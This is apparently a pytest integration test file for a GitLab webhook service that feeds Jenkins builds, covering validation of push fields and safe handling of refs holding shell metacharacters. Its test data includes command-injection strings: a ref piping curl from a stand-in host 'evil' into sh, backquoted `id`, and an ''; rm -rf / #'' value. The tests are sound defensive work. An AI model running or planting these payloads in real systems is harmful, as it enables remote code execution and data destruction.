"""A push whose fields break a rule (workers.core.validation) is answered 200 ignored with the
reason and logged; nothing of it reaches Redis or Jenkins. A valid ref that a shell would run
(git allows `$ ( ) ;` and backquotes) still builds, and reaches Jenkins as it was pushed: the
Jenkinsfile hands it to sh through the environment (tests/unit/test_examples.py). On the whole
path: the web app, a real Redis, the worker, kmock over HTTP and the Jenkins fake."""

import json
import logging

import pytest

from tests.integration.test_push_to_pod import world  # noqa: F401 (a fixture)
from tests.support.app import GITLAB_TOKEN, work
from tests.support.payloads import fixture

SHELL_REF = "refs/heads/x$(curl${IFS}evil|sh);`id`"


def _push(client, delivery: str, **fields):
    body = json.dumps(fixture("gitlab_push_real_lrz.json") | fields).encode()
    return client.post("/webhooks/gitlab", data=body, headers={
        "X-Gitlab-Event": "Push Hook", "X-Gitlab-Token": GITLAB_TOKEN,
        "Idempotency-Key": delivery, "Content-Type": "application/json"})


@pytest.mark.parametrize("fields,says", [
    ({"ref": "refs/heads/x\n$(curl${IFS}evil|sh);`id`"}, "which git does not allow"),
    # 20 MB: past the body limit, read in pieces, and the ref kept is past it too
    ({"ref": "refs/heads/" + "x" * (20 * 2**20)}, "fields read are over"),
    ({"ref": "refs/heads/" + "x" * 300}, "ref is longer than 255 bytes"),
    ({"after": "'; rm -rf / #", "checkout_sha": "'; rm -rf / #"}, "is not 40 or 64"),
])
def test_a_push_that_breaks_a_rule_is_200_ignored_and_reaches_neither_redis_nor_jenkins(
        world, redis_conn, jenkins_fake, kube, caplog, fields, says):
    client = world.test_client()
    response = _push(client, "bad-1", **fields)
    assert response.status_code == 200, response.json
    assert response.json["status"] == "ignored" and says in response.json["reason"]
    assert redis_conn.dbsize() == 0  # not even a dedupe record
    work(world)
    assert jenkins_fake.builds == [] and not jenkins_fake.nodes and not kube.pods("ci-agents")
    logged = [r for r in caplog.records if r.getMessage() == "webhook rejected"]
    assert [r.reason for r in logged] == [response.json["reason"]]
    assert all(len(r.getMessage()) < 1000 and len(str(r.reason)) < 1000 for r in logged)


def test_a_valid_ref_a_shell_would_run_still_builds_and_reaches_jenkins_as_pushed(
        world, jenkins_fake):
    client = world.test_client()
    response = _push(client, "shell-1", ref=SHELL_REF,
                     push_options={"ci": {"variable": {"CI_AUTOSCALER_CPU=$(id) 1000": 1}}})
    assert response.status_code == 202, response.json
    work(world)
    [build] = jenkins_fake.builds
    assert build.parameters["GIT_BRANCH"] == SHELL_REF.removeprefix("refs/heads/")
    assert "CI_AUTOSCALER_CPU" not in build.parameters  # not a quantity: not passed on
